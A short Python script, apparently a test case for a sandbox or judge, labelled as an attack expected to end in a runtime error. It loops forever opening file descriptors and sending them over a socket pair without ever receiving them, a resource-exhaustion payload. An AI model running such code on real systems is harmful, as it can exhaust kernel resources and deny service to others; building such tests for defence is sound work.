# attack: descriptors sent and never received
# verdict: runtime_error
import array, os, socket

a, b = socket.socketpair()
while True:
    fds = [os.open("/", 0) for _ in range(60)]
    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
    for fd in fds:
        os.close(fd)
